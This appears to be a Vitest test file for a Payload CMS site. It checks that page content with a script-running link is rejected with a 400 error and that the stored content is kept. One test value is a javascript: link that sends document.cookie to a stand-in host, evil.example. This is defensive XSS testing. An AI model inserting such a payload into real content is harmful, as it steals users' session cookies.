/** Pages refuse rich text whose links could run script, and keep what was stored before. */
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { makePerson, type Person } from '../harness/fixtures'
import { testPayload } from '../harness/payload'
import { rest } from '../harness/rest'

let payload: Payload
let staff: Person

beforeAll(async () => {
  payload = await testPayload()
  staff = await makePerson(payload, 'staff')
})

const content = (url: string) => ({
  root: {
    type: 'root',
    version: 1,
    direction: 'ltr',
    format: '',
    indent: 0,
    children: [
      {
        type: 'paragraph',
        version: 1,
        direction: 'ltr',
        format: '',
        indent: 0,
        textFormat: 0,
        children: [
          {
            type: 'link',
            version: 3,
            direction: 'ltr',
            format: '',
            indent: 0,
            fields: { url, newTab: false, linkType: 'custom' },
            children: [{ type: 'text', text: 'read more', format: 0, version: 1, detail: 0, mode: 'normal', style: '' }],
          },
        ],
      },
    ],
  },
})

describe('links in page content', () => {
  it('refuses a javascript: link with a message naming it, and leaves the page as it was', async () => {
    const created = await rest('POST', '/pages', {
      token: staff.token,
      body: { kind: 'terms', title: '약관', content: content('https://example.com/terms') },
    })
    expect(created.status).toBe(201)
    const { doc } = (await created.json()) as { doc: { id: number } }

    const response = await rest('PATCH', `/pages/${doc.id}`, {
      token: staff.token,
      headers: { 'Accept-Language': 'en' },
      body: { content: content('javascript:fetch("//evil.example?c="+document.cookie)') },
    })
    expect(response.status).toBe(400)
    const body = (await response.json()) as { errors: { data?: { errors?: { path: string; message: string }[] } }[] }
    expect(body.errors[0].data?.errors?.[0]).toMatchObject({
      path: 'content',
      message: expect.stringMatching(/Links may only point to http\(s\)/),
    })

    const stored = await payload.findByID({ collection: 'pages', id: doc.id })
    expect(JSON.stringify(stored.content)).toContain('https://example.com/terms')
  })
})
